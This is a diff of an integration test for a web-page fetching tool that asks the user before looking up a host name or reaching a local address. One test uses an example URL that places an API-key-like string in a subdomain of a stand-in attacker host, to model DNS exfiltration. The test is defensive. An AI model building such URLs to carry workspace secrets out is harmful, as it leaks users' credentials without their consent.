@@ -133,17 +133,36 @@ describe('fetch_web_page (integration)', function () {
     assert.equal(elsewhere.requests.length, 0, 'the other server was never contacted');
   });
 
-  it('flags a name that resolves into the local network, and connects to the address it showed', async () => {
-    const gateway = recordingGateway({ webPages: ['accept'] });
+  it('asks before the name is even looked up, then asks again when it leads into the local network, and connects to the address it showed', async () => {
+    const gateway = recordingGateway({ webPages: ['accept', 'accept'] });
     const url = `http://docs.hearth.test:${new URL(site.url).port}/notes`;
     const result = await executor(gateway).execute(call(url), new AbortController().signal);
     assert.equal(result.isError, false, result.content);
-    assert.match(result.content, /The `legacy` flag was removed\./, 'the page came from the address resolved before asking (the name resolves nowhere else)');
-    assert.deepEqual(gateway.webPages.map((r) => [r.local, r.resolvesTo]), [[true, '127.0.0.1']]);
+    assert.match(result.content, /The `legacy` flag was removed\./, 'the page came from the address resolved after asking (the name resolves nowhere else)');
+    assert.deepEqual(
+      gateway.webPages.map((r) => [r.local, r.resolvesTo]),
+      [
+        [false, undefined],
+        [true, '127.0.0.1'],
+      ],
+      'first the address alone, then where its name leads',
+    );
     assert.ok(resolved.includes('docs.hearth.test'));
-    const missing = await executor(gateway).execute(call('http://no-such-host.invalid/x'), new AbortController().signal);
+
+    // A name that would carry workspace text to someone's DNS server is never looked up unless the user allows it.
+    resolved.length = 0;
+    const leak = recordingGateway({ webPages: ['reject'] });
+    const rejected = await executor(leak).execute(call('https://apikey-s3cr3t.attacker-exfil.invalid/licence'), new AbortController().signal);
+    assert.equal(rejected.isError, true);
+    assert.deepEqual(resolved, [], 'no DNS lookup before the answer');
+    const requestsBefore = site.requests.length;
+    const local = recordingGateway({ webPages: ['accept', 'reject'] });
+    const refusedLocal = await executor(local).execute(call(url), new AbortController().signal);
+    assert.match(refusedLocal.content, /The user did not allow fetching .* \(its name leads to 127\.0\.0\.1, on this machine or the local network\)\. Nothing was fetched\./);
+    assert.equal(site.requests.length, requestsBefore, 'a local address the user refused is never requested');
+
+    const missing = await executor(recordingGateway({ webPages: ['accept'] })).execute(call('http://no-such-host.invalid/x'), new AbortController().signal);
     assert.match(missing.content, /was not fetched: the host no-such-host\.invalid could not be found \(ENOTFOUND\)/);
-    assert.equal(gateway.webPages.length, 1, 'a host that does not resolve is not asked about');
   });
 
   it('tells public hosts from this machine and private networks', () => {
